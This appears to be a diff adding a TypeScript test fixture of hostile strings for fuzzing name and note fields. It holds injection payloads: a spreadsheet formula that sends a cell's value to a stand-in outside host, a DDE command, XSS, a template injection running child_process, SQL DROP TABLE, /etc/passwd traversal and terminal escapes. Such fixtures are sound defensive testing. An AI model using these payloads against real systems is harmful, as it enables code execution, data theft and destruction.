@@ -1,0 +1,23 @@
+/** What somebody who means harm might put into a name: each is well-formed JSON text and a legal name or note. */
+export const HOSTILE_STRINGS: readonly string[] = [
+  '=HYPERLINK("http://elsewhere.example/?"&A1,"Click")',
+  "\tcmd|' /C calc'!A0",
+  '＝1+1',
+  '<img src=x onerror="window.stolen=1"><script>window.stolen=1</script>',
+  '{{constructor.constructor("return process")()}}',
+  '${process.mainModule.require("child_process").execSync("id")}',
+  "'; DROP TABLE keys; --",
+  '../../../../etc/passwd\u0000.json',
+  '\u202Egnp.yek\u202C \u2066hidden\u2069',
+  'zero\u200Bwidth\uFEFF joined\u200D',
+  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 Zalgo',
+  'line one\r\nline two\u2028line three',
+  '\u001B[2J\u001B]0;owned\u0007',
+  'lone \uD800 surrogate',
+  '__proto__',
+  'constructor',
+  'https://user:pass@elsewhere.example/',
+  'ock_live_0000000000000000000000000000000000000000000000',
+  '%s%n%x{0}$&',
+  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(7),
+];
